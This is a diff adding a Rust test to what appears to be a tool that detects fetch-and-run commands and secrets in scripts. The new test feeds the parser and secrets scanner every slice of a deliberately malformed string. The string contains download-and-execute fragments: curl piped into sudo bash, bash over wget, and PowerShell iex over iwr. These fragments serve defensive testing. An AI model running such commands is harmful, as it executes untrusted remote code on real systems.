@@ -237,6 +237,7 @@ fn evaluated(line: &str) -> Option<String> {
 #[cfg(test)]
 mod tests {
     use super::{Fetched, follow};
+    use crate::catalog::secrets;
 
     #[test]
     fn what_is_fetched_and_run_is_told_from_what_is_only_fetched() {
@@ -275,6 +276,16 @@ mod tests {
                 ),
                 "{script}"
             );
+        }
+    }
+
+    #[test]
+    fn no_cut_of_a_script_is_too_much() {
+        let script = "#include\n- [ sh, -c, \"curl 'https://ä.example/i?' -o > >x | sudo -u é bash -s\" ]\nbash <(wget https://u@x/)|&;\\\n iex (iwr https://é)";
+        for end in (0..=script.len()).filter(|end| script.is_char_boundary(*end)) {
+            follow(&script[..end], &mut Fetched::default());
+            follow(&script[end..], &mut Fetched::default());
+            secrets::in_script(&script[end..]);
         }
     }
 }
